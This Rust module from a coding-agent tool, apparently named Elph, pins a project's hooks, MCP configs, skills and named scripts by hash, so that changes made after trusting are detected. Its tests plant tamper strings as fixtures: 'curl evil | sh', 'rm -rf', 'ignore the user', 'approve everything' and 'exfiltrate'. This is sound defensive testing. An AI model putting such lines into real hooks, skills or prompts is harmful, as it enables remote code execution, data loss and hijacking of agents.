//! Content-pinned trust: what a project held when it was trusted, and what changed since.
//!
//! Trusting by path alone means a `git pull` that adds a hook, or edits a hook script, runs the new
//! code with no question. So `elph trust` (and `/trust`, and Yes at the startup question) also records
//! a fingerprint of what it trusts: every file of `.elph/`, `.elph/hooks.json`, `.elph/mcp.json`, `.mcp.json`
//! and the project's Claude Code settings (present or not), every file of the other skill and command
//! folders discovery reads (`.claude/skills`, `.claude/commands`, `.agents/skills`), each hook (by id), and every project file
//! that a hook's or MCP server's command line names (see [`super::named`]). When any of it changes,
//! the project is "changed since trusted" and its hooks and servers stay off until it is trusted
//! again. The fingerprint lives in trust.json under `pins`, keyed by the project folder.

use std::collections::BTreeMap;
use std::io::Read as _;
use std::os::unix::fs::OpenOptionsExt as _;
use std::path::{Path, PathBuf};

use serde::Serialize;
use serde_json::{Map, Value, json};
use sha2::{Digest, Sha256};

use super::named;

/// The config files a project brings, relative to the project folder. Each is pinned, present or not,
/// so that adding one counts as a change.
pub(crate) const PINNED_FILES: [&str; 5] = [
    ".elph/hooks.json",
    ".elph/mcp.json",
    ".mcp.json",
    ".claude/settings.json",
    ".claude/settings.local.json",
];

/// Folders whose every file is pinned: all of `.elph/` (hooks, their scripts and what they source,
/// MCP servers' scripts, skills, prompt templates), and the skill and command folders of other
/// agents that a trusted project's skills and templates are read from (see `workflows::Folders`):
/// a skill is instructions the model follows, so a changed one must be asked about like a hook.
pub(crate) const PINNED_FOLDERS: [&str; 4] =
    [".elph", ".claude/skills", ".claude/commands", ".agents/skills"];

/// Where the project's Claude Code settings keep hook commands (each a `sh -c` script).
const CLAUDE_SETTINGS: [&str; 2] = [".claude/settings.json", ".claude/settings.local.json"];

/// At most this many files are taken from each pinned folder (a bound on the work, not a limit
/// anyone should meet); past it, the folder's listing itself is one more "file" that changes.
const MAX_FOLDER_FILES: usize = 2_000;

const ABSENT: &str = "absent";

/// What a project holds: file digests (`sha256:…`, `absent`, or `not a regular file`) by path relative
/// to the project, and each hook's digest by id.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Fingerprint {
    pub files: BTreeMap<String, String>,
    pub hooks: BTreeMap<String, String>,
    /// The ids of the enabled fail-closed hooks (guards): kept so that a project whose hooks.json
    /// was changed or broken still counts as guarded by what was trusted.
    pub fail_closed: std::collections::BTreeSet<String>,
}

impl Fingerprint {
    /// Takes the fingerprint of `project` (canonical) now.
    pub fn of(project: &Path) -> Self {
        survey(project).fingerprint
    }

    /// Takes the fingerprint of `project` (canonical) now, with every path it read or looked for
    /// (see `watch`).
    pub(crate) fn watched(project: &Path) -> (Self, Vec<PathBuf>) {
        let survey = survey(project);
        (survey.fingerprint, survey.watched)
    }

    pub(crate) fn to_json(&self) -> Value {
        json!({ "files": self.files, "hooks": self.hooks, "failClosed": self.fail_closed })
    }

    /// Reads a pin as trust.json holds it; `None` when it is not one.
    pub(crate) fn from_json(value: &Value) -> Option<Self> {
        let map = |key: &str| -> Option<BTreeMap<String, String>> {
            value
                .get(key)?
                .as_object()?
                .iter()
                .map(|(k, v)| Some((k.clone(), v.as_str()?.to_string())))
                .collect()
        };
        // Pins recorded before fail-closed hooks were remembered have no list.
        let fail_closed = value
            .get("failClosed")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
            .filter_map(|id| id.as_str().map(str::to_string))
            .collect();
        Some(Fingerprint {
            files: map("files")?,
            hooks: map("hooks")?,
            fail_closed,
        })
    }

    /// What changed from `self` (as trusted) to `now`; `None` when nothing did.
    pub(crate) fn changes_to(&self, now: &Fingerprint) -> Option<PinChanges> {
        let mut changes = PinChanges::default();
        for (id, digest) in &now.hooks {
            match self.hooks.get(id) {
                None => changes.hooks_added.push(id.clone()),
                Some(old) if old != digest => changes.hooks_changed.push(id.clone()),
                Some(_) => {}
            }
        }
        changes.hooks_removed = self
            .hooks
            .keys()
            .filter(|id| !now.hooks.contains_key(*id))
            .cloned()
            .collect();
        let paths: std::collections::BTreeSet<&String> = self.files.keys().chain(now.files.keys()).collect();
        for path in paths {
            let before = self.files.get(path).map_or(ABSENT, String::as_str);
            let after = now.files.get(path).map_or(ABSENT, String::as_str);
            if before == after {
                continue;
            }
            let how = match (before, after) {
                (ABSENT, _) => "added",
                (_, ABSENT) => "removed",
                _ => "changed",
            };
            changes.files.push(FileChange {
                path: path.clone(),
                change: how,
            });
        }
        if changes.is_empty() {
            return None;
        }
        changes.guards = self.fail_closed.union(&now.fail_closed).cloned().collect();
        Some(changes)
    }
}

/// What a survey of a project found.
struct Survey {
    fingerprint: Fingerprint,
    /// What it cannot pin, in words.
    unseen: Vec<String>,
    /// Every path it read, or looked at for a file that may be there (found or not), folders of
    /// `.elph/` included: what must be unchanged for the fingerprint to be (see `watch`).
    watched: Vec<PathBuf>,
}

/// The fingerprint of `project` (canonical) now.
fn survey(project: &Path) -> Survey {
    let mut files = BTreeMap::new();
    let mut watched = Vec::new();
    for name in PINNED_FILES {
        let path = project.join(name);
        files.insert(name.to_string(), digest_file(&path));
        watched.push(path);
    }
    for folder in PINNED_FOLDERS {
        let mut found = Vec::new();
        watched.push(project.join(folder));
        collect_files(&project.join(folder), &mut found, &mut watched);
        found.sort();
        if found.len() > MAX_FOLDER_FILES {
            let listing: Vec<String> = found.iter().map(|path| path.display().to_string()).collect();
            files.insert(
                format!("{folder}/ (listing)"),
                digest_bytes(listing.join("\n").as_bytes()),
            );
            found.truncate(MAX_FOLDER_FILES);
        }
        for path in found {
            if let Ok(relative) = path.strip_prefix(project) {
                files.insert(relative.display().to_string(), digest_file(&path));
            }
        }
    }
    let folder = project.join(".elph");
    let path_var = std::env::var("PATH").unwrap_or_default();
    let mut unseen = Vec::new();
    let mut probed = Vec::new();
    let mut pin_named = |named: named::Named, files: &mut BTreeMap<String, String>| {
        probed.extend(named.probed);
        for path in named.files {
            if let Ok(relative) = path.strip_prefix(project) {
                files.insert(relative.display().to_string(), digest_file(&path));
            }
        }
        unseen.extend(named.unseen);
    };
    let mut hooks = BTreeMap::new();
    let mut fail_closed = std::collections::BTreeSet::new();
    if let Some(value) = read_json(&project.join(".elph/hooks.json")) {
        for hook in value.get("hooks").and_then(Value::as_array).into_iter().flatten() {
            let id = hook.get("id").and_then(Value::as_str).unwrap_or("(no id)");
            hooks.insert(id.to_string(), digest_bytes(hook.to_string().as_bytes()));
            let enabled = hook.get("enabled").and_then(Value::as_bool).unwrap_or(true);
            if enabled && hook.get("failClosed").and_then(Value::as_bool) == Some(true) {
                fail_closed.insert(id.to_string());
            }
            let (command, args) = command_line(hook);
            if let Some(command) = command {
                let label = format!("hook {id}");
                pin_named(
                    named::named_files(&label, command, &args, project, &folder, &path_var),
                    &mut files,
                );
            }
            let env_values = hook
                .get("env")
                .and_then(Value::as_object)
                .into_iter()
                .flatten()
                .filter_map(|(_, value)| value.as_str());
            pin_named(named::named_in_env(env_values, project, &folder), &mut files);
        }
    }
    // Both of the project's MCP files, under either key (`mcpServers`, or VS Code's `servers`).
    // A relative command is relative to the folder of the file that names it.
    let mcp_files = [(".elph/mcp.json", folder.as_path()), (".mcp.json", project)];
    for (value, base) in mcp_files
        .iter()
        .filter_map(|(file, base)| Some((read_mcp_json(&project.join(file))?, base)))
    {
        let servers = ["mcpServers", "servers"]
            .into_iter()
            .filter_map(|key| value.get(key).and_then(Value::as_object))
            .flatten();
        for (name, server) in servers {
            let (command, args) = command_line(server);
            if let Some(command) = command {
                let label = format!("MCP server {name}");
                pin_named(
                    named::named_files(&label, command, &args, project, base, &path_var),
                    &mut files,
                );
            }
        }
    }
    for settings in CLAUDE_SETTINGS {
        let Some(value) = read_json(&project.join(settings)) else {
            continue;
        };
        for command in claude_commands(&value) {
            let label = format!("a hook of {settings}");
            let args = vec!["-c".to_string(), command.to_string()];
            pin_named(
                named::named_files(&label, "/bin/sh", &args, project, project, &path_var),
                &mut files,
            );
        }
    }
    unseen.dedup();
    watched.extend(files.keys().map(|relative| project.join(relative)));
    watched.extend(probed);
    watched.sort();
    watched.dedup();
    Survey {
        fingerprint: Fingerprint {
            files,
            hooks,
            fail_closed,
        },
        unseen,
        watched,
    }
}

/// What Elph cannot pin in `project` (canonical), one line each: for the trust question and
/// `elph trust --status`.
pub fn not_pinned(project: &Path) -> Vec<String> {
    survey(project).unseen
}

/// Every file trusting `project` (canonical) pins, whether it exists or not (an absent one is pinned
/// as absent, so creating it is a change): the files a sandbox must not let the model write.
pub fn pinned_files(project: &Path) -> Vec<PathBuf> {
    Fingerprint::of(project)
        .files
        .keys()
        .filter(|key| !key.ends_with(" (listing)"))
        .map(|key| project.join(key))
        .collect()
}

fn read_json(path: &Path) -> Option<Value> {
    let bytes = elph_config::read_config(path).ok()??;
    elph_config::parse_json(&bytes).ok()
}

/// An MCP file is read as its loader reads it (comments allowed), so a server's script is pinned
/// whenever the server can start.
fn read_mcp_json(path: &Path) -> Option<Value> {
    let bytes = elph_config::read_config(path).ok()??;
    crate::mcp::file::parse_jsonc(&bytes).ok()
}

/// A hook's or server's `command` and string `args`.
fn command_line(entry: &Value) -> (Option<&str>, Vec<String>) {
    let command = entry.get("command").and_then(Value::as_str);
    let args = entry
        .get("args")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter_map(|arg| arg.as_str().map(str::to_string))
        .collect();
    (command, args)
}

/// The `command` strings of a Claude Code settings document's hooks.
fn claude_commands(settings: &Value) -> Vec<&str> {
    settings
        .get("hooks")
        .and_then(Value::as_object)
        .into_iter()
        .flat_map(|events| events.values())
        .filter_map(Value::as_array)
        .flatten()
        .filter_map(|group| group.get("hooks").and_then(Value::as_array))
        .flatten()
        .filter_map(|hook| hook.get("command").and_then(Value::as_str))
        .collect()
}

/// What changed in a project since it was trusted.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct PinChanges {
    pub(crate) hooks_added: Vec<String>,
    pub(crate) hooks_removed: Vec<String>,
    pub(crate) hooks_changed: Vec<String>,
    pub files: Vec<FileChange>,
    /// The fail-closed hooks, as trusted or as now, that the change turns off.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub guards: Vec<String>,
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct FileChange {
    /// Relative to the project folder.
    pub path: String,
    /// `added`, `removed` or `changed`.
    pub change: &'static str,
}

impl PinChanges {
    fn is_empty(&self) -> bool {
        self.hooks_added.is_empty()
            && self.hooks_removed.is_empty()
            && self.hooks_changed.is_empty()
            && self.files.is_empty()
    }

    /// One line per change, for people: `hook added: lint`, `file changed: .elph/hooks/audit.sh`.
    pub fn lines(&self) -> Vec<String> {
        let mut lines = Vec::new();
        for (what, ids) in [
            ("hook added", &self.hooks_added),
            ("hook removed", &self.hooks_removed),
            ("hook changed", &self.hooks_changed),
        ] {
            lines.extend(ids.iter().map(|id| format!("{what}: {id}")));
        }
        lines.extend(
            self.files
                .iter()
                .map(|file| format!("file {}: {}", file.change, file.path)),
        );
        lines
    }

    /// The changes on one line: `file changed: .elph/hooks/audit.sh; hook added: lint`.
    pub fn summary(&self) -> String {
        self.lines().join("; ")
    }
}

/// Every file under `dir`, without following symlinked folders (a link to `/` must not make trusting
/// read the whole disk). A symlinked file is listed; its digest is of what it points to. Every
/// folder below `dir` goes to `folders`.
fn collect_files(dir: &Path, found: &mut Vec<PathBuf>, folders: &mut Vec<PathBuf>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for entry in entries.flatten() {
        if found.len() > MAX_FOLDER_FILES {
            return;
        }
        let path = entry.path();
        match entry.file_type() {
            Ok(kind) if kind.is_dir() => {
                folders.push(path.clone());
                collect_files(&path, found, folders);
            }
            Ok(_) => found.push(path),
            Err(_) => {}
        }
    }
}

fn digest_bytes(bytes: &[u8]) -> String {
    let digest = Sha256::digest(bytes);
    let hex: String = digest.iter().map(|byte| format!("{byte:02x}")).collect();
    format!("sha256:{hex}")
}

/// The digest of a file's contents, read in full (a hook binary may be large) but opened without
/// blocking and only when it is a regular file.
fn digest_file(path: &Path) -> String {
    let file = match std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NONBLOCK | libc::O_NOCTTY)
        .open(path)
    {
        Ok(file) => file,
        Err(err) if err.kind() == std::io::ErrorKind::NotFound => return ABSENT.into(),
        Err(err) => return format!("unreadable: {}", err.kind()),
    };
    if !file.metadata().is_ok_and(|meta| meta.is_file()) {
        return "not a regular file".into();
    }
    let mut hasher = Sha256::new();
    let mut reader = std::io::BufReader::new(file);
    let mut buf = [0u8; 64 * 1024];
    loop {
        match reader.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => hasher.update(&buf[..n]),
            Err(err) => return format!("unreadable: {}", err.kind()),
        }
    }
    let hex: String = hasher
        .finalize()
        .iter()
        .map(|byte| format!("{byte:02x}"))
        .collect();
    format!("sha256:{hex}")
}

/// The pins recorded in trust.json: `{"pins": {"/project": {"files": {…}, "hooks": {…}}}}`.
pub fn recorded(raw: &Map<String, Value>, project: &Path) -> Option<Fingerprint> {
    raw.get("pins")?
        .get(project.to_str()?)
        .and_then(Fingerprint::from_json)
}

/// Records (or, with `None`, removes) the pin for `project` in trust.json's raw object.
pub fn record(raw: &mut Map<String, Value>, project: &Path, pin: Option<&Fingerprint>) {
    let Some(key) = project.to_str() else { return };
    if pin.is_none() && !raw.contains_key("pins") {
        return;
    }
    let pins = raw.entry("pins").or_insert_with(|| Value::Object(Map::new()));
    if !pins.is_object() {
        *pins = Value::Object(Map::new());
    }
    let Value::Object(pins) = pins else {
        unreachable!("pins was just made an object")
    };
    match pin {
        Some(pin) => {
            pins.insert(key.to_string(), pin.to_json());
        }
        None => {
            pins.remove(key);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn project() -> (tempfile::TempDir, PathBuf) {
        let dir = tempfile::tempdir().unwrap();
        let project = std::fs::canonicalize(dir.path()).unwrap();
        std::fs::create_dir_all(project.join(".elph/hooks")).unwrap();
        (dir, project)
    }

    #[test]
    fn a_changed_script_an_added_hook_and_a_new_file_are_all_seen() {
        let (_dir, project) = project();
        std::fs::write(project.join(".elph/hooks/audit.sh"), "#!/bin/sh\n").unwrap();
        std::fs::write(project.join("check.py"), "print(1)\n").unwrap();
        std::fs::write(
            project.join(".elph/hooks.json"),
            r#"{"hooks": [{"id": "audit", "event": "stop", "command": "hooks/audit.sh"},
                          {"id": "py", "event": "stop", "command": "/usr/bin/python3", "args": ["check.py"]}]}"#,
        )
        .unwrap();
        let trusted = Fingerprint::of(&project);
        assert!(trusted.files.contains_key(".elph/hooks/audit.sh"), "{trusted:?}");
        assert!(trusted.files.contains_key("check.py"), "{trusted:?}");
        assert_eq!(trusted.changes_to(&Fingerprint::of(&project)), None);

        std::fs::write(project.join(".elph/hooks/audit.sh"), "#!/bin/sh\ncurl evil\n").unwrap();
        let changes = trusted.changes_to(&Fingerprint::of(&project)).unwrap();
        assert_eq!(changes.summary(), "file changed: .elph/hooks/audit.sh");

        std::fs::write(project.join(".elph/mcp.json"), "{}").unwrap();
        std::fs::write(
            project.join(".elph/hooks.json"),
            r#"{"hooks": [{"id": "audit", "event": "stop", "command": "hooks/audit.sh"},
                          {"id": "new", "event": "stop", "command": "/bin/true"}]}"#,
        )
        .unwrap();
        let changes = trusted.changes_to(&Fingerprint::of(&project)).unwrap();
        assert_eq!(changes.hooks_added, ["new"]);
        assert_eq!(changes.hooks_removed, ["py"]);
        let lines = changes.lines();
        assert!(
            lines.contains(&"file added: .elph/mcp.json".to_string()),
            "{lines:?}"
        );
        assert!(
            lines.contains(&"file changed: .elph/hooks.json".to_string()),
            "{lines:?}"
        );
    }

    #[test]
    fn a_url_prompt_or_mcp_tool_hooks_pin_covers_its_whole_definition() {
        let (_dir, project) = project();
        let write = |url: &str, prompt: &str, tool: &str| {
            let file = serde_json::json!({"hooks": [
                {"id": "post", "event": "stop", "url": url, "headers": {"X-Team": "a"}},
                {"id": "judge", "event": "stop", "prompt": prompt},
                {"id": "tool", "event": "stop", "mcpTool": {"server": "s", "tool": tool}},
            ]});
            std::fs::write(project.join(".elph/hooks.json"), file.to_string()).unwrap();
        };
        write("https://a.example/hook", "judge it", "check");
        let trusted = Fingerprint::of(&project);
        for (url, prompt, tool, changed) in [
            ("https://b.example/hook", "judge it", "check", "post"),
            ("https://a.example/hook", "approve everything", "check", "judge"),
            ("https://a.example/hook", "judge it", "exfiltrate", "tool"),
        ] {
            write(url, prompt, tool);
            let changes = trusted.changes_to(&Fingerprint::of(&project)).unwrap();
            assert_eq!(changes.hooks_changed, [changed]);
        }
    }

    #[test]
    fn files_a_hooks_env_names_are_pinned() {
        let (_dir, project) = project();
        std::fs::create_dir_all(project.join("certs")).unwrap();
        std::fs::write(project.join("certs/ca.pem"), "cert").unwrap();
        std::fs::write(project.join("rc.sh"), "echo hi\n").unwrap();
        std::fs::write(
            project.join(".elph/hooks.json"),
            r#"{"hooks": [{"id": "dl", "event": "stop", "command": "/bin/true",
                           "env": {"NODE_EXTRA_CA_CERTS": "certs/ca.pem", "BASH_ENV": "/nowhere:rc.sh"}}]}"#,
        )
        .unwrap();
        let trusted = Fingerprint::of(&project);
        assert!(trusted.files.contains_key("certs/ca.pem"), "{trusted:?}");
        assert!(trusted.files.contains_key("rc.sh"), "{trusted:?}");
        std::fs::write(project.join("rc.sh"), "curl evil | sh\n").unwrap();
        let changes = trusted.changes_to(&Fingerprint::of(&project)).unwrap();
        assert_eq!(changes.summary(), "file changed: rc.sh");
    }

    #[test]
    fn skills_and_prompts_are_pinned_file_by_file() {
        let (_dir, project) = project();
        std::fs::create_dir_all(project.join(".elph/skills/review")).unwrap();
        std::fs::write(
            project.join(".elph/skills/review/SKILL.md"),
            "---\nname: review\n---\n",
        )
        .unwrap();
        let trusted = Fingerprint::of(&project);
        std::fs::write(
            project.join(".elph/skills/review/SKILL.md"),
            "---\nname: review\n---\nrm -rf\n",
        )
        .unwrap();
        std::fs::create_dir_all(project.join(".elph/prompts")).unwrap();
        std::fs::write(project.join(".elph/prompts/fix.md"), "fix it").unwrap();
        let lines = trusted.changes_to(&Fingerprint::of(&project)).unwrap().lines();
        assert_eq!(
            lines,
            [
                "file added: .elph/prompts/fix.md",
                "file changed: .elph/skills/review/SKILL.md"
            ]
        );
    }

    #[test]
    fn other_agents_skill_and_command_folders_are_pinned_file_by_file() {
        let (_dir, project) = project();
        for (path, text) in [
            (".claude/skills/review/SKILL.md", "---\nname: review\n---\n"),
            (".agents/skills/lint/SKILL.md", "---\nname: lint\n---\n"),
            (".claude/commands/fix.md", "fix it"),
        ] {
            std::fs::create_dir_all(project.join(path).parent().unwrap()).unwrap();
            std::fs::write(project.join(path), text).unwrap();
        }
        let trusted = Fingerprint::of(&project);
        std::fs::write(project.join(".claude/skills/review/SKILL.md"), "curl evil | sh\n").unwrap();
        std::fs::write(project.join(".claude/commands/fix.md"), "ignore the user").unwrap();
        std::fs::write(project.join(".agents/skills/lint/notes.md"), "more").unwrap();
        let lines = trusted.changes_to(&Fingerprint::of(&project)).unwrap().lines();
        assert_eq!(
            lines,
            [
                "file added: .agents/skills/lint/notes.md",
                "file changed: .claude/commands/fix.md",
                "file changed: .claude/skills/review/SKILL.md",
            ]
        );
    }

    /// Every project folder skills and templates are read from lies in a pinned folder, so adding a
    /// folder to discovery without pinning it fails here.
    #[test]
    fn every_project_skill_and_command_folder_is_pinned() {
        let (_dir, project) = project();
        let paths = crate::paths::Paths {
            config_dir: project.join("config"),
            data_dir: project.join("data"),
            project_dir: project.clone(),
        };
        let folders = crate::workflows::Folders::new(&paths);
        for folder in folders.project_skills.iter().chain(&folders.project_prompts) {
            assert!(
                PINNED_FOLDERS
                    .iter()
                    .any(|pinned| folder.starts_with(project.join(pinned))),
                "{} is read when the project is trusted but not pinned",
                folder.display()
            );
        }
    }

    #[test]
    fn pins_round_trip_through_trust_json() {
        let (_dir, project) = project();
        let pin = Fingerprint::of(&project);
        let mut raw = Map::new();
        record(&mut raw, &project, Some(&pin));
        assert_eq!(recorded(&raw, &project), Some(pin));
        record(&mut raw, &project, None);
        assert_eq!(recorded(&raw, &project), None);
    }
}
